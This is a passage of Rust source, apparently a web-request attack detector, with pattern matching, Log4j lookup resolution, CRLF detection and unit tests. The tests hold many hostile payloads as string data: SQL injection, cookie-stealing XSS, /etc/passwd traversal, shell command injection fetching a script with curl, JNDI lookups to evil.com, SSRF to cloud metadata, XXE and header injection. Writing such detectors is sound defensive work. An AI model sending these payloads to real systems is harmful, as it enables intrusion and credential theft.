                        || (s == 0 && matches!(t.get(e), Some(b';' | b'|' | b'&' | b'`'))))
            }
            AbsUrlAfter => abs_url_at(t, e),
            EventHandler => event_handler_at(t, s),
            Tautology => boolean_comparison_at(t, s).is_some_and(|c| c.tautology),
            BreakoutComparison => boolean_comparison_at(t, s).is_some_and(|c| c.after_breakout),
            BoolOperator => !t[s].is_ascii_alphabetic() || (word_start(t, s) && word_end(t, e)),
            HexLiteral => hex_literal_at(t, s),
        }
    }

    /// What [`matched_patterns`] calls a match of this kind.
    fn label(self, literal: &'static str) -> &'static str {
        match self {
            EventHandler => "on…= event handler",
            Tautology => "x=x tautology",
            BreakoutComparison => "') or x=y comparison",
            HexLiteral => "0x… hex literal",
            _ => literal,
        }
    }
}

/// Deepest nesting of `${` lookups allowed when resolving; deeper ones stay as text.
const MAX_LOOKUP_DEPTH: u8 = 16;

/// Runs every detector over the normalised text, reporting `(slot, label)` for each hit, fills
/// `hist` with its bytes, and returns the deepest `${` nesting.
fn scan(t: &[u8], hist: &mut ByteHistogram, hit: &mut impl FnMut(usize, &'static str)) -> u32 {
    let mut saw_lookup = false;
    let mut saw_operator = false;
    let m = &*MATCHER;
    let (trans, classes) = (m.trans.as_slice(), &m.classes);
    let mut state = 0u32;
    for (i, &b) in t.iter().enumerate() {
        state = trans[state as usize + classes[b as usize] as usize];
        // Independent of the state chain, so it fills the cycles the table lookup waits for.
        hist.add(b);
        if state < m.first_match {
            continue;
        }
        let end = i + 1;
        let Some(ending_here) = m.matches.get(((state - m.first_match) / m.stride) as usize) else {
            continue;
        };
        for &pattern in ending_here {
            let Some(&(literal, slot, cond)) = PATTERNS.get(pattern as usize) else {
                continue;
            };
            let start = end - literal.len();
            match cond {
                BoolOperator => {
                    saw_operator = saw_operator || cond.check(t, start, end);
                    continue;
                }
                Tautology | BreakoutComparison if !saw_operator => continue,
                _ => {}
            }
            if cond.check(t, start, end) {
                saw_lookup |= slot == SSTI && literal == "${";
                hit(slot, cond.label(literal));
            }
        }
    }
    if !saw_lookup {
        return 0;
    }
    let depth = lookup_depth(t);
    if depth >= 2 {
        resolve_lookups(t, hit);
    }
    depth
}

/// Deepest nesting of `${...}`.
fn lookup_depth(t: &[u8]) -> u32 {
    let (mut depth, mut max) = (0u32, 0u32);
    let mut i = 0;
    while i < t.len() {
        if t[i] == b'$' && t.get(i + 1) == Some(&b'{') {
            depth += 1;
            max = max.max(depth);
            i += 2;
            continue;
        }
        if t[i] == b'}' {
            depth = depth.saturating_sub(1);
        }
        i += 1;
    }
    max
}

/// Resolves nested Log4j lookups (`${lower:j}`, `${::-j}`, `${env:X:-j}`) and reports lookups
/// that only become `${jndi:` after resolution: `${${lower:j}ndi:ldap://...}`.
fn resolve_lookups(t: &[u8], hit: &mut impl FnMut(usize, &'static str)) {
    let mut sink = Vec::new();
    let mut i = 0;
    while let Some(p) = memmem::find(&t[i..], b"${") {
        i += p + 2;
        resolve_one(t, &mut i, 1, &mut sink, hit);
        sink.clear();
    }
}

fn resolve_one(
    t: &[u8],
    i: &mut usize,
    depth: u8,
    out: &mut Vec<u8>,
    hit: &mut impl FnMut(usize, &'static str),
) {
    let start = *i;
    let mut content = Vec::new();
    let mut nested = false;
    while *i < t.len() {
        if t[*i] == b'$' && t.get(*i + 1) == Some(&b'{') && depth < MAX_LOOKUP_DEPTH {
            *i += 2;
            nested = true;
            resolve_one(t, i, depth + 1, &mut content, hit);
        } else if t[*i] == b'}' {
            *i += 1;
            break;
        } else {
            content.push(t[*i]);
            *i += 1;
        }
    }
    if nested && starts_with_ci(&content, b"jndi:") && !starts_with_ci(&t[start..], b"jndi:") {
        hit(JNDI, "${jndi: (nested lookups)");
    }
    if let Some(p) = memmem::find(&content, b":-") {
        out.extend_from_slice(&content[p + 2..]);
    } else if starts_with_ci(&content, b"lower:") || starts_with_ci(&content, b"upper:") {
        out.extend_from_slice(&content[6..]);
    } else {
        out.extend_from_slice(b"${");
        out.extend_from_slice(&content);
        out.push(b'}');
    }
}

/// Length of a line break at `raw[i..]`: a CR or LF byte, `%0d`/`%0a` with any number of `25`
/// re-encodings (`%250d`), `%u000d`/`%u000a`, or an escaped `\r`/`\n` (also `%5cr`).
fn line_break_at(raw: &[u8], i: usize) -> Option<usize> {
    let rest = &raw[i..];
    match rest.first()? {
        b'\r' | b'\n' => Some(1),
        b'\\' => matches!(rest.get(1), Some(b'r' | b'n')).then_some(2),
        b'%' => {
            let mut j = 1;
            while starts_with_ci(&rest[j..], b"25") {
                j += 2;
            }
            let code = rest.get(j..j + 2)?;
            if code.eq_ignore_ascii_case(b"0d") || code.eq_ignore_ascii_case(b"0a") {
                Some(j + 2)
            } else if code.eq_ignore_ascii_case(b"5c")
                && matches!(rest.get(j + 2), Some(b'r' | b'n' | b'R' | b'N'))
            {
                Some(j + 3)
            } else if starts_with_ci(&rest[j..], b"u000d") || starts_with_ci(&rest[j..], b"u000a") {
                Some(j + 5)
            } else {
                None
            }
        }
        _ => None,
    }
}

/// Header names whose injection after a line break means response splitting.
const INJECTED_HEADERS: [&[u8]; 10] = [
    b"set-cookie",
    b"location",
    b"content-type",
    b"content-length",
    b"content-disposition",
    b"refresh",
    b"x-xss-protection",
    b"access-control-allow-origin",
    b"cache-control",
    b"transfer-encoding",
];

/// A header name at `raw[j..]` followed (spaces aside) by a colon, possibly percent-encoded;
/// or a status line `http/1.`.
fn injected_header_at(raw: &[u8], j: usize) -> bool {
    let rest = &raw[j.min(raw.len())..];
    if starts_with_ci(rest, b"http/1.") {
        return true;
    }
    let Some(name) = INJECTED_HEADERS.iter().find(|h| starts_with_ci(rest, h)) else {
        return false;
    };
    let mut k = name.len();
    while k < rest.len() && matches!(rest[k], b' ' | b'+' | b'\t') {
        k += 1;
    }
    let after = &rest[k..];
    if after.first() == Some(&b':') {
        return true;
    }
    if after.first() != Some(&b'%') {
        return false;
    }
    let mut m = 1;
    while starts_with_ci(&after[m..], b"25") {
        m += 2;
    }
    starts_with_ci(&after[m..], b"3a")
}

/// Per-byte flags of the raw-text pass.
const RAW_UPPER: u8 = 1;
const RAW_LETTER: u8 = 2;
const RAW_TRIGGER: u8 = 4;

static RAW_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_uppercase() {
            t[b] = RAW_UPPER | RAW_LETTER;
        } else if c.is_ascii_lowercase() {
            t[b] = RAW_LETTER;
        }
        b += 1;
    }
    t[b'%' as usize] = RAW_TRIGGER;
    t[b'\\' as usize] = RAW_TRIGGER;
    t[b'\r' as usize] = RAW_TRIGGER;
    t[b'\n' as usize] = RAW_TRIGGER;
    t
};

const LANES_01: u64 = 0x0101_0101_0101_0101;
const LANES_80: u64 = 0x8080_8080_8080_8080;

/// High bit set in the lanes of `x` equal to `b`; only the lowest flag is exact (borrows may
/// flag lanes above it), which is all `trailing_zeros` needs.
#[inline(always)]
fn eq_lanes(x: u64, b: u8) -> u64 {
    let y = x ^ (LANES_01 * b as u64);
    y.wrapping_sub(LANES_01) & !y & LANES_80
}

/// High bit set in the lanes of `x` holding an uppercase ASCII letter, and any ASCII letter.
/// Exact in every lane: the high bits are cleared first, so the additions cannot carry.
#[inline(always)]
fn letter_lanes(x: u64) -> (u64, u64) {
    let ascii = !x & LANES_80;
    let y = x & !LANES_80;
    let in_range = |v: u64, lo: u8, hi: u8| {
        let ge_lo = v + LANES_01 * (0x80 - lo as u64);
        let gt_hi = v + LANES_01 * (0x7f - hi as u64);
        ge_lo & !gt_hi & ascii
    };
    let upper = in_range(y, b'A', b'Z');
    let letter = in_range(y | (LANES_01 * 0x20), b'a', b'z');
    (upper, letter)
}

/// Number of lanes flagged (high bit set) in `flags`, without `popcnt` (not in the x86-64
/// baseline): the per-lane 0/1 values summed by one multiplication into the top byte.
#[inline(always)]
fn lane_count(flags: u64) -> u32 {
    ((flags >> 7).wrapping_mul(LANES_01) >> 56) as u32
}

/// One pass over the raw text: the uppercase share of its letters, not counting the hex digits of
/// `%XX` escapes (clients write `%3C`, which would make every encoded request look shouty), and
/// whether it may hold a line break in one of the forms [`line_break_at`] reads, so the exact
/// CRLF scan runs only on the few requests that need it.
fn raw_statistics(raw: &[u8]) -> (f32, bool) {
    let (mut upper, mut letters) = (0u32, 0u32);
    let mut may_break = false;
    let n = raw.len();
    let mut i = 0;
    while i < n {
        // Eight bytes at a time up to the next `%`, `\\`, CR or LF.
        if let Some(chunk) = raw.get(i..i + 8).and_then(|w| <[u8; 8]>::try_from(w).ok()) {
            let x = u64::from_le_bytes(chunk);
            let stops =
                eq_lanes(x, b'%') | eq_lanes(x, b'\\') | eq_lanes(x, b'\n') | eq_lanes(x, b'\r');
            let run = (stops.trailing_zeros() / 8) as usize;
            let before = if run == 8 {
                u64::MAX
            } else {
                (1u64 << (run * 8)) - 1
            };
            let (up, letter) = letter_lanes(x);
            upper += lane_count(up & before);
            letters += lane_count(letter & before);
            i += run;
            if run == 8 {
                continue;
            }
        }
        let b = raw[i];
        let class = RAW_CLASS[b as usize];
        upper += u32::from(class & RAW_UPPER);
        letters += u32::from((class >> 1) & 1);
        if class & RAW_TRIGGER != 0 {
            if b != b'%' {
                may_break = true;
            } else if let Some(&[hi, lo]) = raw
                .get(i + 1..i + 3)
                .and_then(|s| <&[u8; 2]>::try_from(s).ok())
            {
                if hi.is_ascii_hexdigit() && lo.is_ascii_hexdigit() {
                    let lo = lo | 0x20;
                    may_break |= (hi == b'0' && (lo == b'd' || lo == b'a'))
                        || (hi == b'2' && lo == b'5')
                        || (hi == b'5' && lo == b'c');
                    i += 3;
                    continue;
                }
                may_break |= hi | 0x20 == b'u';
            }
        }
        i += 1;
    }
    let ratio = if letters == 0 {
        0.0
    } else {
        upper as f32 / letters as f32
    };
    (ratio, may_break)
}

/// After a line break at `j`: skips further breaks and blanks (also `+`, `%20`).
fn skip_line_breaks(raw: &[u8], mut j: usize) -> usize {
    loop {
        if let Some(l) = line_break_at(raw, j) {
            j += l;
        } else if j < raw.len() && matches!(raw[j], b' ' | b'+' | b'\t' | b'\r') {
            j += 1;
        } else if starts_with_ci(&raw[j.min(raw.len())..], b"%20") {
            j += 3;
        } else {
            return j;
        }
    }
}

/// Line breaks in the raw text followed by an injected header (CRLF injection / response
/// splitting): `%0d%0aSet-Cookie:`, `%250D%250ASet-cookie%253A`.
fn crlf_injections(raw: &[u8]) -> u32 {
    let mut count = 0;
    let mut i = 0;
    while let Some(p) = memchr::memchr3(b'%', b'\\', b'\n', &raw[i..]) {
        i += p;
        let Some(len) = line_break_at(raw, i) else {
            i += 1;
            continue;
        };
        let j = skip_line_breaks(raw, i + len);
        count += u32::from(injected_header_at(raw, j));
        i = j;
    }
    count
}

/// `c * log2(c)` for small counts, so entropy needs no logarithm per distinct byte.
static C_LOG2_C: LazyLock<[f32; 1024]> = LazyLock::new(|| {
    let mut t = [0f32; 1024];
    for (c, v) in t.iter_mut().enumerate().skip(1) {
        *v = c as f32 * (c as f32).log2();
    }
    t
});

/// Byte classes for the shape statistics.
const OTHER: u8 = 0;
const DIGIT: u8 = 1;
const LETTER: u8 = 2;
const BLANK: u8 = 3;
/// Punctuation counted by the `special_chars` feature: `< > ; ' " ( ) { } | & $ \` \\`.
const SPECIAL: u8 = 4;

static SHAPE_CLASS: [u8; 256] = {
    let mut t = [LETTER; 256]; // non-ASCII bytes belong to letters such as `ñ`
    let mut b = 0;
    while b < 0x80 {
        t[b] = if (b as u8).is_ascii_digit() {
            DIGIT
        } else if (b as u8).is_ascii_alphabetic() {
            LETTER
        } else {
            OTHER
        };
        b += 1;
    }
    t[b' ' as usize] = BLANK;
    let special = b"<>;'\"(){}|&$`\\";
    let mut k = 0;
    while k < special.len() {
        t[special[k] as usize] = SPECIAL;
        k += 1;
    }
    t
};

/// Byte counts of a text, and which bytes occur, so that entropy and class sums visit only the
/// distinct bytes (a few dozen) rather than 256 buckets.
struct ByteHistogram {
    counts: [u32; 256],
    /// The distinct bytes in order of first occurrence (at most 256). Twice the size so the
    /// branch-free write below can index with a mask instead of a bounds check.
    seen: [u8; 512],
    n_seen: usize,
}

impl ByteHistogram {
    fn new() -> Self {
        ByteHistogram {
            counts: [0; 256],
            seen: [0; 512],
            n_seen: 0,
        }
    }

    /// Branch-free: a new byte is recorded by writing it always and advancing only if new.
    #[inline(always)]
    fn add(&mut self, b: u8) {
        let count = &mut self.counts[b as usize];
        self.seen[self.n_seen & 511] = b;
        self.n_seen += usize::from(*count == 0);
        *count += 1;
    }

    fn distinct(&self) -> &[u8] {
        &self.seen[..self.n_seen.min(256)]
    }
}

/// Length, entropy and character-class ratios of the normalised text (non-empty), from its
/// histogram (filled by [`scan`] on the way).
fn shape_statistics(t: &[u8], hist: &ByteHistogram, out: &mut [f32; N_HEURISTICS]) {
    let table = &*C_LOG2_C;
    let mut sum_clogc = 0f32;
    let mut by_class = [0u32; 5];
    for &b in hist.distinct() {
        let c = hist.counts[b as usize];
        sum_clogc += match table.get(c as usize) {
            Some(&v) => v,
            None => c as f32 * (c as f32).log2(),
        };
        by_class[SHAPE_CLASS[b as usize] as usize] += c;
    }
    let n = t.len() as f32;
    out[LENGTH] = n.ln_1p();
    out[ENTROPY] = (n.log2() - sum_clogc / n).max(0.0);
    out[WHITESPACE_RATIO] = by_class[BLANK as usize] as f32 / n;
    out[DIGIT_RATIO] = by_class[DIGIT as usize] as f32 / n;
    out[NON_ALNUM_RATIO] = (by_class[OTHER as usize] + by_class[SPECIAL as usize]) as f32 / n;
    out[SPECIAL_CHARS] = by_class[SPECIAL as usize] as f32;
}

/// Fills `out` with the heuristic features (named by [`HEURISTIC_NAMES`]) of a request whose
/// normalised text is `normalized` and raw text is `raw`.
pub fn heuristics_into(normalized: &str, raw: &str, out: &mut [f32; N_HEURISTICS]) {
    heuristics_core(normalized, raw, out, |_, _| {});
}

/// [`heuristics_into`] that also records the attack patterns it matched into `hits`, so that an
/// explanation needs no second pass of the automaton ([`PatternHits::ranked`] gives the same
/// list as [`matched_patterns`]).
pub fn heuristics_with_hits(
    normalized: &str,
    raw: &str,
    out: &mut [f32; N_HEURISTICS],
    hits: &mut PatternHits,
) {
    hits.clear();
    heuristics_core(normalized, raw, out, |slot, label| hits.record(slot, label));
}

#[inline(always)]
fn heuristics_core(
    normalized: &str,
    raw: &str,
    out: &mut [f32; N_HEURISTICS],
    mut on_hit: impl FnMut(usize, &'static str),
) {
    *out = [0.0; N_HEURISTICS];
    let t = normalized.as_bytes();
    let mut counts = [0u32; N_HEURISTICS];
    let mut hist = ByteHistogram::new();
    let depth = scan(t, &mut hist, &mut |slot, label| {
        counts[slot] += 1;
        on_hit(slot, label);
    });
    if !t.is_empty() {
        shape_statistics(t, &hist, out);
    }
    let (uppercase_ratio, may_break) = raw_statistics(raw.as_bytes());
    out[RAW_UPPERCASE_RATIO] = uppercase_ratio;

    if may_break {
        counts[CRLF] += crlf_injections(raw.as_bytes());
    }
    let mut families = [false; FAMILIES.len()];
    for (slot, &c) in counts.iter().enumerate() {
        if c > 0 {
            out[slot] = c as f32;
            if let Some(f) = family_of(slot) {
                families[f] = true;
            }
        }
    }
    out[LOOKUP_DEPTH] = depth as f32;
    out[ATTACK_FAMILIES] = families.iter().filter(|&&f| f).count() as f32;
}

/// The distinct `(family, pattern)` pairs matched in a normalised text, in order of first
/// occurrence. Reused between requests (no allocation once grown).
#[derive(Debug, Clone, Default)]
pub struct PatternHits {
    hits: Vec<(usize, &'static str)>,
}

impl PatternHits {
    pub fn clear(&mut self) {
        self.hits.clear();
    }

    #[inline]
    fn record(&mut self, slot: usize, label: &'static str) {
        if let Some(f) = family_of(slot) {
            if !self.hits.contains(&(f, label)) {
                self.hits.push((f, label));
            }
        }
    }

    pub fn is_empty(&self) -> bool {
        self.hits.is_empty()
    }

    /// The pairs as `(family, pattern)`, ranked as [`matched_patterns`] ranks them.
    pub fn ranked(&self) -> Vec<(&'static str, &'static str)> {
        let mut hits = self.hits.clone();
        let mut per_family = [0usize; FAMILIES.len()];
        for &(f, _) in &hits {
            per_family[f] += 1;
        }
        hits.sort_by_key(|&(f, _)| (std::cmp::Reverse(per_family[f]), f));
        hits.into_iter().map(|(f, p)| (FAMILIES[f], p)).collect()
    }
}

/// Attack patterns found in a normalised text, as `(family, pattern)`, for explanations
/// ("matched `union` (sqli)"). Each pair appears once. Families with more distinct patterns come
/// first (ties in [`FAMILIES`] order), patterns in order of first occurrence. CRLF line breaks
/// need the raw text and are not reported here.
pub fn matched_patterns(normalized: &str) -> Vec<(&'static str, &'static str)> {
    let mut hits = PatternHits::default();
    scan(
        normalized.as_bytes(),
        &mut ByteHistogram::new(),
        &mut |slot, label| hits.record(slot, label),
    );
    hits.ranked()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::Normalizer;

    /// Normalises `raw` and computes its heuristics.
    fn features(raw: &str) -> [f32; N_HEURISTICS] {
        let text = Normalizer::default().normalize(raw).text;
        let mut out = [0f32; N_HEURISTICS];
        heuristics_into(&text, raw, &mut out);
        out
    }

    fn slot(name: &str) -> usize {
        HEURISTIC_NAMES
            .iter()
            .position(|n| *n == name)
            .unwrap_or_else(|| panic!("no feature {name}"))
    }

    fn count(raw: &str, name: &str) -> f32 {
        features(raw)[slot(name)]
    }

    fn families(raw: &str) -> Vec<&'static str> {
        let text = Normalizer::default().normalize(raw).text;
        let mut f: Vec<_> = matched_patterns(&text)
            .into_iter()
            .map(|(f, _)| f)
            .collect();
        f.dedup();
        f
    }

    #[test]
    fn names_are_unique_and_every_pattern_has_a_family() {
        let mut names = HEURISTIC_NAMES.to_vec();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), N_HEURISTICS);
        for &(literal, slot, _) in PATTERNS {
            assert!(family_of(slot).is_some(), "{literal}");
            assert_eq!(
                literal,
                literal.to_ascii_lowercase(),
                "patterns are lowercase"
            );
        }
        // The flattened table stays small enough for the cache (states × columns × 4 B).
        let bytes = MATCHER.trans.len() * 4;
        assert!(bytes < 1 << 20, "{bytes} bytes");
    }

    #[test]
    fn flattened_matcher_agrees_with_aho_corasick() {
        use rand::{Rng, SeedableRng};
        let oracle = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(PATTERNS.iter().map(|p| p.0))
            .expect("builds");
        let m = &*MATCHER;
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(5);
        let alphabet: Vec<u8> = PATTERNS
            .iter()
            .flat_map(|p| p.0.bytes())
            .chain(b"ABCXYZ \xff\x00".iter().copied())
            .collect();
        for _ in 0..3_000 {
            let len = rng.gen_range(0..80);
            let text: Vec<u8> = (0..len)
                .map(|_| alphabet[rng.gen_range(0..alphabet.len())])
                .collect();
            let mut expected: Vec<(usize, usize)> = oracle
                .find_overlapping_iter(&text)
                .map(|h| (h.end(), h.pattern().as_usize()))
                .collect();
            let mut got = Vec::new();
            let mut state = 0u32;
            for (i, &b) in text.iter().enumerate() {
                state = m.trans[state as usize + m.classes[b as usize] as usize];
                if state >= m.first_match {
                    let k = ((state - m.first_match) / m.stride) as usize;
                    got.extend(m.matches[k].iter().map(|&p| (i + 1, p as usize)));
                }
            }
            expected.sort_unstable();
            got.sort_unstable();
            assert_eq!(got, expected, "{:?}", String::from_utf8_lossy(&text));
        }
    }

    #[test]
    fn shape_statistics() {
        let f = features("aaaa");
        assert_eq!(f[ENTROPY], 0.0);
        assert!((f[LENGTH] - 5f32.ln()).abs() < 1e-6);
        let f = features("abcd");
        assert!((f[ENTROPY] - 2.0).abs() < 1e-5);
        let f = features("a1 b2");
        assert!((f[DIGIT_RATIO] - 0.4).abs() < 1e-6);
        assert!((f[WHITESPACE_RATIO] - 0.2).abs() < 1e-6);
        assert_eq!(features("<>();")[SPECIAL_CHARS], 5.0);
        assert!((features("a.b")[NON_ALNUM_RATIO] - 1.0 / 3.0).abs() < 1e-6);
        assert!((features("<ScRiPt>")[RAW_UPPERCASE_RATIO] - 0.5).abs() < 1e-6);
        // Hex digits of escapes do not count as uppercase.
        assert_eq!(features("%3C%3Ea")[RAW_UPPERCASE_RATIO], 0.0);
        assert_eq!(features(""), [0f32; N_HEURISTICS]);
        // Entropy of a long text uses the direct formula beyond the table.
        let long = "ab".repeat(5000);
        assert!((features(&long)[ENTROPY] - 1.0).abs() < 1e-3);
    }

    #[test]
    fn sql_injection() {
        let p = "1' UNION/**/SELECT username, password FROM users--";
        assert!(count(p, "sqli_keywords") >= 3.0);
        assert!(count(p, "sqli_syntax") >= 1.0);
        assert!(count("' or 1=1--", "sqli_tautologies") >= 1.0);
        assert!(count("admin' or 'a'='a", "sqli_tautologies") >= 2.0);
        assert!(count("x' and 'b'='b", "sqli_tautologies") >= 1.0);
        assert!(count("'or''='", "sqli_tautologies") >= 2.0);
        assert!(count("1 || 2==2", "sqli_tautologies") >= 1.0);
        assert!(count("1 and 0x41424344=1", "sqli_syntax") >= 1.0);
        assert!(count("1;waitfor delay '0:0:5'--", "sqli_keywords") >= 2.0);
        assert!(count("concat(0x7e,@@version)", "sqli_syntax") >= 3.0);
        assert!(count("1 union/*!50000select*/1", "sqli_keywords") >= 2.0);
        // Not a tautology: different operands, or no boolean operator.
        assert_eq!(count("' or 1=2", "sqli_tautologies"), 1.0); // only the `' or 1` literal
        assert_eq!(count("/p?a=a&b=b", "sqli_tautologies"), 0.0);
        assert_eq!(families("1' UNION SELECT null--")[0], "sqli");
    }

    #[test]
    fn cross_site_scripting() {
        assert!(count("<script>alert(1)</script>", "xss_tags_and_sinks") >= 3.0);
        assert_eq!(count("<svg/onload=alert(1)>", "xss_event_handlers"), 1.0);
        assert_eq!(
            count("<img src=x onerror =prompt(1)>", "xss_event_handlers"),
            1.0
        );
        assert_eq!(count("\" onmouseover=\"x", "xss_event_handlers"), 1.0);
        assert!(
            count(
                "%3Ca%20href%3D%22javascript%3Aalert(document.cookie)%22%3E",
                "xss_tags_and_sinks"
            ) >= 3.0
        );
        assert!(
            count(
                "&lt;iframe src=javascript&colon;alert&lpar;1&rpar;&gt;",
                "xss_tags_and_sinks"
            ) >= 3.0
        );
        // Parameters named on-something are not handlers.
        assert_eq!(
            count("/p?online=1&onda=2&remember=on", "xss_event_handlers"),
            0.0
        );
        assert_eq!(families("<script>alert(1)</script>")[0], "xss");
    }

    #[test]
    fn path_traversal_and_inclusion() {
        assert!(count("../../../../etc/passwd", "path_traversal") >= 5.0);
        assert!(count("..%c0%af..%c0%afetc%c0%afshadow", "path_traversal") >= 3.0);
        assert!(count("..\\..\\windows\\win.ini", "path_traversal") >= 3.0);
        assert!(
            count(
                "php://filter/convert.base64-encode/resource=index",
                "path_traversal"
            ) >= 1.0
        );
        assert!(count("C:\\boot.ini", "path_traversal") >= 2.0);
        assert_eq!(families("../../../../etc/passwd")[0], "path-traversal");
    }

    #[test]
    fn command_injection() {
        assert!(count("; cat /etc/passwd", "cmdi") >= 1.0);
        assert!(count("| id", "cmdi") >= 1.0);
        assert!(count("`whoami`", "cmdi") >= 1.0);
        assert!(count("$(curl http://x/a.sh)", "cmdi") >= 2.0);
        assert!(count("a && ls -la", "cmdi") >= 1.0);
        assert!(count(";/bin/sh -c id", "cmdi") >= 2.0);
        assert!(count("() { :;}; /bin/bash -c \"sleep 3\"", "cmdi") >= 3.0);
        assert!(count("cat${IFS}/etc/passwd", "cmdi") >= 1.0);
        // Parameters that are also command names.
        assert_eq!(count("/p?id=3&cat=books&type=a&ls=1", "cmdi"), 0.0);
        assert_eq!(count("c/ caridad s/n", "cmdi"), 0.0);
        assert_eq!(families("| id")[0], "cmdi");
    }

    #[test]
    fn template_xxe_ssrf_ldap_nosql() {
        assert!(count("{{7*7}}", "ssti") >= 2.0);
        assert!(count("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti") >= 5.0);
        assert!(count("<%= 7*7 %>", "ssti") >= 2.0);
        assert_eq!(families("{{config.items()}}")[0], "ssti");
        let xxe =
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        assert!(count(xxe, "xxe") >= 4.0);
        assert_eq!(families(xxe)[0], "xxe");
        assert!(count("url=http://169.254.169.254/latest/meta-data/", "ssrf") >= 2.0);
        assert!(count("gopher://127.0.0.1:6379/_info", "ssrf") >= 2.0);
        assert!(count("http://[::1]:80/", "ssrf") >= 1.0);
        assert!(count("*)(uid=*))(|(uid=*", "ldap") >= 3.0);
        assert!(count("*(|(objectclass=*))", "ldap") >= 2.0);
        assert!(count("{\"username\": {\"$ne\": null}}", "nosqli") >= 2.0);
        assert!(count("user[$regex]=.*&pass[$gt]=", "nosqli") >= 4.0);
        assert!(count("', $where: '1 == 1'", "nosqli") >= 1.0);
    }

    #[test]
    fn jndi_and_nested_lookups() {
        assert!(count("${jndi:ldap://evil.com/a}", "jndi") >= 2.0);
        assert_eq!(
            count("${jndi:ldap://evil.com/a}", "lookup_nesting_depth"),
            1.0
        );
        let nested = "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://x.y/z}";
        assert!(count(nested, "jndi") >= 2.0);
        assert_eq!(count(nested, "lookup_nesting_depth"), 2.0);
        let text = Normalizer::default().normalize(nested).text;
        assert!(matched_patterns(&text).contains(&("jndi", "${jndi: (nested lookups)")));
        let dashes = "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x}";
        let text = Normalizer::default().normalize(dashes).text;
        assert!(matched_patterns(&text).contains(&("jndi", "${jndi: (nested lookups)")));
        assert_eq!(families(dashes)[0], "jndi");
        // Deep nesting is bounded, never a stack overflow.
        let deep = "${".repeat(100_000);
        assert_eq!(count(&deep, "lookup_nesting_depth"), 100_000.0);
    }

    #[test]
    fn crlf_injection_in_the_raw_text() {
        assert_eq!(
            count("/p?x=a%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
            2.0
        );
        assert_eq!(
            count(
                "/p?n=any%250D%250ASet-cookie%253A%2BTamper%253D1",
                "crlf_injection"
            ),
            2.0
        );
        assert_eq!(
            count("%0AContent-Type:html%0A%0A%3Cscript%3E", "crlf_injection"),
            1.0
        );
        assert_eq!(count("a\r\nLocation: http://evil", "crlf_injection"), 1.0);
        // A line break in a comment box is not an injection.
        assert_eq!(
            count("comment=hello%0D%0Aworld%0D%0Anote: ok", "crlf_injection"),
            0.0
        );
    }

    #[test]
    fn open_redirect_sensitive_ssi_format() {
        assert!(count("/login?next=https://evil.com", "open_redirect") >= 1.0);
        assert_eq!(
            count("/search?q=https://www.example.org/a", "open_redirect"),
            0.0
        );
        assert!(count("/r?url=//evil.com", "open_redirect") >= 2.0);
        assert_eq!(count("/r?url=/home&next=profile", "open_redirect"), 0.0);
        assert!(count("/.git/config", "sensitive_resource") >= 1.0);
        assert!(count("/backup/db.sql", "sensitive_resource") >= 2.0);
        assert!(count("/tienda1/miembros/index.jsp.INC", "sensitive_resource") >= 1.0);
        assert_eq!(count("/.environment/x", "sensitive_resource"), 0.0);
        assert_eq!(count("<!--#exec cmd=\"ls\" -->", "ssi"), 1.0);
        assert!(count("%n%n%n", "format_string") >= 1.0);
        assert!(count("AAAA%s%s%s", "format_string") >= 1.0);
    }

    #[test]
    fn attack_families_counts_distinct_families() {
        assert_eq!(count("hello world", "attack_families"), 0.0);
        assert_eq!(count("' or 1=1-- <script>", "attack_families"), 2.0);
    }

    #[test]
    fn matched_patterns_are_deduplicated_and_ranked() {
        let m = matched_patterns("1 union select 1 union select 2 from t--");
        assert_eq!(
            m.iter().filter(|p| **p == ("sqli", "union")).count(),
            1,
            "{m:?}"
        );
        assert!(m.contains(&("sqli", "select")));
        assert!(m.contains(&("sqli", "--")));
        assert!(matched_patterns("hello world").is_empty());
        // Ties go to the more specific family.
        let m = matched_patterns("/etc/passwd");
        assert_eq!(m[0].0, "path-traversal");
    }

    #[test]
    fn hits_recorded_with_the_features_match_a_separate_pass() {
        let mut hits = PatternHits::default();
        for raw in include_str!("../tests/fixtures/normalize_payloads.txt").lines() {
            let text = Normalizer::default().normalize(raw).text;
            let (mut plain, mut with_hits) = ([0f32; N_HEURISTICS], [0f32; N_HEURISTICS]);
            heuristics_into(&text, raw, &mut plain);
            heuristics_with_hits(&text, raw, &mut with_hits, &mut hits);
            assert_eq!(plain, with_hits, "{raw}");
            assert_eq!(hits.ranked(), matched_patterns(&text), "{raw}");
        }
        heuristics_with_hits("x=1", "x=1", &mut [0f32; N_HEURISTICS], &mut hits);
        assert!(hits.is_empty(), "hits are cleared between requests");
    }

    /// Payloads from public lists (PayloadsAllTheThings, fuzzdb, HttpParamsDataset, CSIC 2010),
    /// one per line as `family<TAB>payload`; `benign` lines must stay quiet.
    const FIXTURE: &str = include_str!("../tests/fixtures/normalize_payloads.txt");

    fn fixture() -> impl Iterator<Item = (&'static str, &'static str)> {
        FIXTURE
            .lines()
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .filter_map(|l| l.split_once('\t'))
    }

    #[test]
    fn fixture_attacks_match_their_family() {
        let mut checked = 0;
        let mut missed = Vec::new();
        for (family, payload) in fixture().filter(|(f, _)| *f != "benign") {
            let found = families(payload);
            if !found.contains(&family) {
                missed.push(format!("{family}: {payload:?} → {found:?}"));
            }
            checked += 1;
        }
        assert!(missed.is_empty(), "{}", missed.join("\n"));
        assert!(checked >= 60, "{checked}");
    }

    #[test]
    fn fixture_benign_values_stay_quiet() {
        let mut checked = 0;
        let mut loud = Vec::new();
        for (_, value) in fixture().filter(|(f, _)| *f == "benign") {
            let f = features(value);
            let evidence: f32 = (SQLI_KEYWORDS..=FORMAT_STRING)
                .filter(|&s| s != LOOKUP_DEPTH)
                .map(|s| f[s])
                .sum();
            if evidence > 2.0 || f[ATTACK_FAMILIES] > 1.0 {
